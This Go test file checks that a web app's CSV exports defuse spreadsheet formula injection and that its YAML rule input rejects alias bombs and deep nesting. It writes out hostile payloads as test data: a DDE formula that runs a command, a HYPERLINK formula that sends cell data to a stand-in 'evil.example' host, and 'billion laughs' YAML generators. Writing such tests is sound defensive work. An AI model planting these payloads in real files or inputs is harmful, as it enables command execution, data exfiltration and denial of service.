package web_test

import (
	"context"
	"encoding/csv"
	"mime"
	"net/http"
	"regexp"
	"runtime"
	"strings"
	"testing"
	"unicode"

	"battlemap/app"
	"battlemap/app/apptest"
)

// formulas are beginnings that a spreadsheet takes for a formula, or hides one behind.
func formulas() []string {
	return []string{"=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "＝1+1", "　=1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", "\n=1+1", " =1+1", "+0x10", "-inf", "＠SUM(1)", "=HYPERLINK(\"//evil.example\"&A1)"}
}

// charged is a district in which the names of people, units, task forces, projects and tickets are formulas, and so are the reasons of what was done.
func charged(t *testing.T) *full {
	t.Helper()
	f := newFull(t)
	ctx, admin := context.Background(), f.As(t, "admin")
	f.At(t, "2023-03-31 17:00")
	for i, formula := range formulas() {
		n := itoa(int64(i))
		u, err := f.App.AddUnit(ctx, admin, app.AddUnit{Code: "f" + n, Name: formula + "单位" + n, Kind: "bureau"})
		apptest.Must(t, err, "add a unit called %q", formula)
		_, err = f.App.AddUser(ctx, admin, app.AddUser{Account: "f" + n, Name: formula, UnitID: u.ID})
		apptest.Must(t, err, "add a person called %q", formula)
		force, err := f.App.AddTaskForce(ctx, admin, app.AddTaskForce{Code: "9" + n, Name: formula + "专班" + n, LeaderID: f.small.Users["tf1"], UnitID: u.ID})
		apptest.Must(t, err, "add a task force called %q", formula)
		p, err := f.App.AddProject(ctx, f.As(t, "dir"), app.AddProject{Name: formula, Level: "city", TaskForceID: force.ID, InvestFen: 5000 * wan, YearPlanFen: 1000 * wan, Year: 2023, Stage: "landed", InPlan: true})
		apptest.Must(t, err, "add a project called %q", formula)
		apptest.Must(t, f.App.Assign(ctx, f.As(t, "dir"), app.Assign{Project: p.ID, LeadUnitID: u.ID, UnitID: u.ID, Duties: formula, Reason: formula}), "assign")
		issued(t, f.World, f.small, app.DraftTicket{Kind: "decision", Title: formula, Basis: formula, Instruction: formula, TaskForceID: force.ID, LeadUnitID: u.ID, DueTerm: "3 workdays"})
	}
	_, err := f.App.DeliverInbox(ctx)
	apptest.Must(t, err, "deliver")
	f.At(t, "2023-05-20 09:00")
	_, err = f.App.Sweep(ctx, app.System("sweep"), 0)
	apptest.Must(t, err, "sweep")
	return f
}

var plainFigure = regexp.MustCompile(`^-?[0-9]+(\.[0-9]+)?$`)

// Check 13 (ASVS 1.2.10; of peers: Kimai CVE-2026-42267): no cell of any file for spreadsheets begins as a formula does, columns that are put together included. There
// is no XLSX export.
func TestCheck13NoCellIsAFormula(t *testing.T) {
	f := charged(t)
	insp := f.as(t, "insp")
	files, marked := 0, 0
	for _, r := range routes(t) {
		if r.method != http.MethodGet || !strings.HasSuffix(r.pattern, "csv") {
			continue
		}
		addresses := []string{f.address(t, r.pattern)}
		switch r.pattern {
		case "/questions/:name/csv":
			addresses = nil
			for _, name := range []string{"dates", "lights", "amounts", "late", "same-unit", "disputed", "exemptions", "reminders", "vacancies", "grants"} {
				addresses = append(addresses, "/questions/"+name+"/csv?days=0")
			}
		case "/charts/:id/csv":
			addresses = nil
			for _, m := range regexp.MustCompile(`/charts/([a-z_]+)/csv`).FindAllString(insp.get("/charts").body, -1) {
				addresses = append(addresses, m)
			}
		case "/changes/csv":
			addresses = []string{"/changes/csv?from=2023-03-20&to=2023-05-20"}
		case "/figures/csv":
			addresses = []string{"/figures/csv?input=task_force%2Fsatisfied&last=2023-04-30"}
		}
		for _, address := range addresses {
			a := insp.get(address)
			if a.status == http.StatusNotFound && strings.HasPrefix(address, "/figures") { // inspectors enter no figures
				a = f.as(t, "sup").get(address)
			}
			a.has(t, http.StatusOK)
			if kind, params, err := mime.ParseMediaType(a.header.Get("Content-Disposition")); kind != "attachment" || err != nil || !strings.HasSuffix(params["filename"], ".csv") || strings.ContainsAny(params["filename"], `=+@/\`) {
				t.Errorf("%s: saved as %q", address, a.header.Get("Content-Disposition"))
			}
			rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(a.body, "\ufeff"))).ReadAll()
			apptest.Must(t, err, "read %s", address)
			files++
			for _, row := range rows {
				for _, cell := range row {
					if strings.HasPrefix(cell, "'") {
						marked++
					}
					bare := strings.TrimLeftFunc(cell, func(r rune) bool { return unicode.IsSpace(r) || unicode.IsControl(r) || unicode.Is(unicode.Cf, r) })
					if bare != "" && strings.ContainsRune("=+-@＝＋－＠", []rune(bare)[0]) && !plainFigure.MatchString(cell) || strings.HasPrefix(cell, "\t") || strings.HasPrefix(cell, "\r") {
						t.Errorf("%s: the cell %q", address, cell)
					}
				}
			}
		}
	}
	if files < 12 || marked < 100 {
		t.Errorf("%d files with %d cells that were made harmless", files, marked)
	}
}

// Check 16 (ASVS 1.5.1, 1.5.2), as far as people hand in YAML: a rule set whose aliases unfold to a thousand million nodes, or that nests without end, is refused and
// costs no memory. Documents are app/media's; nothing reads their XML as XML.
func TestCheck16LawsThatExplode(t *testing.T) {
	w, _, srv := site(t)
	dir := as(t, w, srv, "dir")
	var laughs strings.Builder
	laughs.WriteString("a0: &a0 [x,x,x,x,x,x,x,x,x,x]\n")
	for i := 1; i < 10; i++ {
		one := "*a" + itoa(int64(i-1))
		laughs.WriteString("a" + itoa(int64(i)) + ": &a" + itoa(int64(i)) + " [" + strings.Repeat(one+",", 9) + one + "]\n")
	}
	bombs := map[string]string{"aliases": laughs.String() + "ruleset: default\nversion: 1\nrules: *a9\n", "depth": "ruleset: " + strings.Repeat("[", 200_000), "an alias of itself": "ruleset: &a [*a]\nversion: 1\n",
		"merges": "ruleset: x\n" + "m: &m {a: 1}\n" + "<<: [" + strings.Repeat("*m,", 50_000) + "*m]\n", "a number": "ruleset: default\nversion: 1" + strings.Repeat("0", 100_000) + "\n", "unknown fields": "ruleset: x\n" + manyFields()}
	for name, text := range bombs {
		for _, kind := range []string{"ruleset", "ticket", "project"} {
			before := size(t, w)
			var m runtime.MemStats
			runtime.ReadMemStats(&m)
			total := m.TotalAlloc
			a := dir.post("/rules/drafts/new", map[string][]string{"kind": {kind}, "text": {text}, "reason": {"示例"}, "effective_from": {"2023-05-01"}})
			runtime.ReadMemStats(&m)
			if used := (m.TotalAlloc - total) >> 20; a.status < 400 || a.status >= 500 || used > 200 {
				t.Errorf("%s as %s: status %d, %d MiB were asked for", name, kind, a.status, used)
			}
			if size(t, w) != before {
				t.Errorf("%s as %s left a record", name, kind)
			}
		}
	}
}

func manyFields() string {
	var b strings.Builder
	for i := range 20_000 {
		b.WriteString("f" + itoa(int64(i)) + ": 1\n")
	}
	return b.String()
}
